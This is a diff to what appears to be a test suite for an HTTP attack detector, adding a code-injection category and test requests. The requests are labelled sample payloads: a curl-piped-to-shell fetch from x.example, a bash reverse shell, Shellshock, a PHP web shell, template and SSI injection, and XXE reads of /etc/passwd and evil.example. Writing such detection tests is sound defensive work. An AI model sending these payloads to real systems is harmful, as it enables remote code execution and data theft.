@@ -37,6 +37,7 @@ def rules(req: HttpRequest) -> set[str]:
 
 SQLI = "HTTP SQL injection"
 CMDI = "HTTP command injection"
+CODE = "HTTP code injection"
 XXE = "HTTP XML external entity (XXE)"
 TRAVERSAL = "HTTP path traversal"
 LOG4SHELL = "HTTP Log4Shell JNDI lookup"
@@ -61,6 +62,11 @@ ATTACKS = [
     (CMDI, post('{"job": {"cmd": "curl -s http://x.example/a.sh | sh"}}', "application/json")),
     (CMDI, post("<run><arg>bash -i &gt;&amp; /dev/tcp/10.1.2.3/4444 0&gt;&amp;1</arg></run>", "text/xml")),
     (CMDI, get("/cgi-bin/status", ("User-Agent", "() { :; }; /bin/bash -c 'id'"))),
+    (CMDI, get("/ping?host=x%26net%20user")),
+    (CMDI, get("/ping?host=x%5Cnid%5Cn")),  # a literal backslash-n separator
+    (CODE, get("/page?name=%7B%7B7*7%7D%7D")),
+    (CODE, post("tpl=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E", "application/x-www-form-urlencoded")),
+    (CODE, post('{"comment": "<!--#exec cmd=\\"id\\"-->"}', "application/json")),
     (XXE, post('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
                "application/xml")),
     (XXE, post('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d/>', "application/soap+xml")),
